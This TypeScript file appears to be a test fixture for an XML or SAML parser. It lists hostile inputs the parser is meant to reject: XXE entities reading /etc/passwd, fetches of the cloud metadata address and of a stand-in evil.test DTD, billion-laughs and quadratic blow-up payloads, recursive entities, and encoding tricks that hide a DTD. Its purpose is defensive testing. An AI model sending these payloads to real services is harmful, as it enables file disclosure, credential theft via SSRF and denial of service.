// P01 to P03: declarations, entities and other encodings. They never reach a reader.
import { around, type Edit, type Hostile } from './characters.js'

const prolog =
  (declaration: string, entity = '&e;'): Edit =>
  ({ xml, value }) =>
    declaration + xml.replace(value, entity)

export const declarations: readonly Hostile[] = [
  {
    row: 'P01',
    name: 'internal-entity',
    tries: 'declares an entity and has it stand for a name',
    edit: prolog('<!DOCTYPE r [<!ENTITY e "mallory">]>'),
  },
  {
    row: 'P01',
    name: 'external-entity-file',
    tries: 'has an entity read a file of ours',
    edit: prolog('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
  },
  {
    row: 'P01',
    name: 'external-entity-http',
    tries: 'has an entity fetched from elsewhere',
    edit: prolog('<!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/latest/">]>'),
  },
  {
    row: 'P01',
    name: 'parameter-entity',
    tries: 'has a parameter entity load more declarations',
    edit: prolog('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>'),
  },
  {
    row: 'P01',
    name: 'external-subset',
    tries: 'names an external DTD and nothing else',
    edit: ({ xml }) => `<!DOCTYPE r PUBLIC "-//evil//EN" "http://evil.test/x.dtd">${xml}`,
  },
  {
    row: 'P01',
    name: 'default-attribute',
    tries: 'declares an ID attribute with a default value',
    edit: ({ xml }) => `<!DOCTYPE r [<!ATTLIST samlp:Response ID ID "_evil">]>${xml}`,
  },
  {
    row: 'P01',
    name: 'after-declaration',
    tries: 'declares an entity behind the XML declaration',
    edit: ({ xml, value }) =>
      `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY e "mallory">]>${xml.replace(value, '&e;')}`,
  },
  {
    row: 'P02',
    name: 'billion-laughs',
    tries: 'has entities of entities grow a billionfold',
    edit: prolog(`<!DOCTYPE r [<!ENTITY a0 "lol">${laughs(9)}]>`, '&a9;'),
  },
  {
    row: 'P02',
    name: 'quadratic-blow-up',
    tries: 'has one long entity stand a thousand times',
    edit: prolog(`<!DOCTYPE r [<!ENTITY e "${'x'.repeat(20_000)}">]>`, '&e;'.repeat(1000)),
  },
  {
    row: 'P02',
    name: 'recursive-entity',
    tries: 'has two entities name each other',
    edit: prolog('<!DOCTYPE r [<!ENTITY e "&f;"><!ENTITY f "&e;">]>'),
  },
]

export const encodings: readonly (Hostile & { readonly byPost?: 'S0' })[] = [
  {
    row: 'P03',
    name: 'utf-16le-bom',
    tries: 'hides a DTD by sending UTF-16, little end first',
    edit: ({ xml }) => Buffer.from(`\ufeff<!DOCTYPE r>${xml}`, 'utf16le'),
    byPost: 'S0',
  },
  {
    row: 'P03',
    name: 'utf-16be-bom',
    tries: 'hides a DTD by sending UTF-16, big end first',
    edit: ({ xml }) => Buffer.from(`\ufeff<!DOCTYPE r>${xml}`, 'utf16le').swap16(),
    byPost: 'S0',
  },
  {
    row: 'P03',
    name: 'utf-16le-bare',
    tries: 'sends UTF-16 without a mark',
    edit: ({ xml }) => Buffer.from(xml, 'utf16le'),
  },
  {
    row: 'P03',
    name: 'utf-32le',
    tries: 'sends UTF-32',
    edit: ({ xml }) => utf32(`\ufeff${xml}`),
    byPost: 'S0',
  },
  {
    row: 'P03',
    name: 'declared-utf-7',
    tries: 'hides a DTD in UTF-7, which it declares',
    edit: ({ xml }) => `<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE r+AD4-${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-utf-16',
    tries: 'declares UTF-16 over UTF-8',
    edit: ({ xml }) => `<?xml version="1.0" encoding="UTF-16"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-latin-1',
    tries: 'declares ISO-8859-1',
    edit: ({ xml }) => `<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-ebcdic',
    tries: 'declares EBCDIC',
    edit: ({ xml }) => `<?xml version="1.0" encoding="cp037"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'declared-without-quotes',
    tries: 'declares an encoding in a way that only lenient readers take',
    edit: ({ xml }) => `<?xml version=1.0 encoding=utf-16?>${xml}`,
  },
  {
    row: 'P03',
    name: 'version-1.1',
    tries: 'declares XML 1.1, where other characters are allowed',
    edit: ({ xml }) => `<?xml version="1.1"?>${xml}`,
  },
  {
    row: 'P03',
    name: 'overlong-utf-8',
    tries: 'spells a less-than sign in two bytes',
    edit: ({ xml, value }) => around(xml, value, Buffer.from([0xc0, 0xbc])),
  },
  {
    row: 'P03',
    name: 'surrogates-in-utf-8',
    tries: 'spells an astral character as two surrogates of three bytes',
    edit: ({ xml, value }) => around(xml, value, Buffer.from([0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80])),
  },
  {
    row: 'P03',
    name: 'cut-utf-8',
    tries: 'ends a character in the middle',
    edit: ({ xml, value }) => around(xml, value, Buffer.from([0xe2, 0x82])),
  },
]

function laughs(levels: number): string {
  return Array.from({ length: levels }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')
}

function utf32(text: string): Buffer {
  const codes = Array.from(text, (character) => character.codePointAt(0) ?? 0)
  const bytes = Buffer.alloc(codes.length * 4)
  for (const [at, code] of codes.entries()) bytes.writeUInt32LE(code, at * 4)
  return bytes
}
